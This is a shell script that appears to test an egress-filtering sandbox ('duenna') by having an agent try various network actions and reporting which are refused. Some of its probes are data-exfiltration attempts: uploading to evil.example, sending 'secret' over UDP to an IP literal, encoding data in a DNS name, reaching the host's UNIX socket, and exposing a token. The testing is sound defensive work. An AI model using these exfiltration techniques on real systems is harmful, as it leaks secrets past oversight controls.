#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# The agent.  It knows nothing of duenna: no proxy, no certificate, no token.
api=https://api.example.com/repos/acme/widgets

# try WHAT COMMAND...: one line of what came of it
try() {
	what=$1
	shift
	if out=$("$@" 2>&1); then verdict=allowed; else verdict=refused; fi
	case $out in *[Rr]efused* | *duenna* | *'No such file'*) verdict=refused ;; esac
	line=$(printf '%s\n' "$out" | grep -v '^$' | head -n 1 | cut -c 1-62)
	printf '  %-8s %-25s %s\n' "$verdict" "$what" "$line"
}

get() { curl -sS -m 10 "$@"; }

clone() {
	git clone -q https://git.example.com/acme/widgets.git &&
		echo "$(git -C widgets log --format=%s): $(git -C widgets ls-files | paste -sd ' ')"
}

last_line() { "$@" 2>&1 | tail -n 1; }

udp() {
	last_line python3 -c 'import socket; s = socket.socket(2, 2); s.settimeout(3)
s.connect(("203.0.113.9", 9999)); s.send(b"secret"); print(s.recv(99))'
}

unix() {
	last_line python3 -c 'import socket, sys
s = socket.socket(1); s.connect(sys.argv[1]); print("connected")' "$1"
}

# any name has an address, so that a refusal can be explained there; it is made
# up, and the question goes nowhere
name() {
	getent ahostsv4 "$1" | head -n 1 |
		sed 's/^\(198\.1[89][.0-9]*\) .*/refused: \1 is made up, nobody was asked/'
}

try 'API, no token of its own' get "$api/issues/7"
try 'git clone'                clone
try 'another path'             get "$api/keys"
try 'another method'           get -X DELETE "$api/issues/7"
try 'another host'             get https://evil.example/upload
try 'an IP literal'            get -k https://203.0.113.9/
try 'UDP'                      udp
try 'data in a DNS name'       name c2VjcmV0.evil.example
try 'UNIX socket of the host'  unix "$HOST_SOCKET"
printf '  %s\n' "and its \$ACME_TOKEN is worth nothing: $ACME_TOKEN"
